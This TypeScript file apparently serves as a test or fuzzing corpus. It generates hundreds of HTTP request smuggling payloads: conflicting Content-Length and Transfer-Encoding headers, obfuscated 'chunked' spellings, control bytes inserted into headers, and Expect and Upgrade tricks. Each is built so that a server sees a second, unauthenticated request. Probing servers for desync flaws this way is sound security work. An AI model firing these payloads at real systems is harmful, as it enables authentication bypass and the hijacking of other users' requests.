import type { Malformed } from './malformed.ts'

const POST = 'POST {target} HTTP/1.1'
/** What the next request on a connection would be taken for: its own request line ends up as the value of a header. */
const PREFIX = 'GET /smuggled HTTP/1.1\r\nHost: notes.example\r\nX: '
const IN_CHUNK = `${PREFIX.length.toString(16)}\r\n${PREFIX}\r\n0\r\n\r\n`

/** By the length there is a body, by the encoding it ends at once, and the rest is a request. */
const lengthFirst = (...encoding: string[]): Malformed => {
  const body = `0\r\n\r\n${PREFIX}`
  return { line: POST, headers: [`Content-Length: ${body.length}`, ...encoding], body }
}
/** By the length the body ends behind the size of a chunk, by the encoding it is all of it. */
const encodingFirst = (...encoding: string[]): Malformed => ({
  line: POST,
  headers: [...encoding, 'Content-Length: 4'],
  body: IN_CHUNK,
})

const BYTES = [0, 1, 4, 8, 9, 10, 11, 12, 13, 14, 31, 32, 34, 39, 44, 58, 59, 95, 127, 128, 160, 255]
/** Places at which a byte makes some program see the header, and another not. */
const PLACES: ((byte: string) => string)[] = [
  (byte) => `Transfer-Encoding${byte}: chunked`,
  (byte) => `Transfer-Encoding:${byte}chunked`,
  (byte) => `Transfer-Encoding: chunked${byte}`,
  (byte) => `${byte}Transfer-Encoding: chunked`,
  (byte) => `X: X${byte}Transfer-Encoding: chunked`,
  (byte) => `Transfer${byte}Encoding: chunked`,
]
const SPELLINGS = [
  ['Transfer-Encoding: chunked'],
  ['transfer-encoding: CHUNKED'],
  ['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'],
  ['Transfer-Encoding: identity', 'Transfer-Encoding: chunked'],
  ['Transfer-Encoding: cow', 'Transfer-Encoding: chunked'],
  ['Transfer-Encoding: identity, chunked'],
  ['Transfer-Encoding: chunked, identity'],
  ['Transfer-Encoding:\r\n chunked'],
  ['Transfer-Encoding: \r\n\tchunked'],
  ["Transfer-Encoding: 'chunked'"],
  ['Transfer-Encoding: chunk'],
  ['Content-Encoding: chunked'],
  ['Connection: Transfer-Encoding', 'Transfer-Encoding: chunked'],
  ['Connection: Content-Length'],
]

function mutations(): Record<string, Malformed> {
  const found: Record<string, Malformed> = {}
  const encodings = [
    ...SPELLINGS,
    ...PLACES.flatMap((place) => BYTES.map((byte) => [place(String.fromCharCode(byte))])),
  ]
  for (const encoding of encodings) {
    const title = JSON.stringify(encoding.join(' / '))
    found[`a length, and ${title}`] = lengthFirst(...encoding)
    found[`${title}, and a length`] = encodingFirst(...encoding)
  }
  return found
}

/** Requests in which some program would see two, the second of them without a credential. */
export const SMUGGLING: Record<string, Malformed> = {
  ...mutations(),
  'a body that an instance leaves': {
    line: POST,
    headers: [`Content-Length: ${PREFIX.length}`],
    body: PREFIX,
  },
  'a body of GET': {
    line: 'GET {target} HTTP/1.1',
    headers: [`Content-Length: ${PREFIX.length}`],
    body: PREFIX,
  },
  'a length of nothing with something behind it': {
    line: POST,
    headers: ['Content-Length: 0'],
    body: `${PREFIX}a\r\n\r\n`,
  },
  'no length with something behind it': { line: POST, body: `${PREFIX}a\r\n\r\n` },
  'a body that is shorter than it says': {
    line: POST,
    headers: [`Content-Length: ${PREFIX.length + 100}`],
    body: PREFIX,
  },
  'an expectation': {
    line: POST,
    headers: ['Expect: 100-continue', `Content-Length: ${PREFIX.length}`],
    body: PREFIX,
  },
  'an odd expectation': {
    line: POST,
    headers: ['Expect: y 100-continue', `Content-Length: ${PREFIX.length}`],
    body: PREFIX,
  },
  'an upgrade with a length': {
    line: 'GET {target} HTTP/1.1',
    headers: [
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Version: 777',
      `Content-Length: ${PREFIX.length}`,
    ],
    body: PREFIX,
  },
}
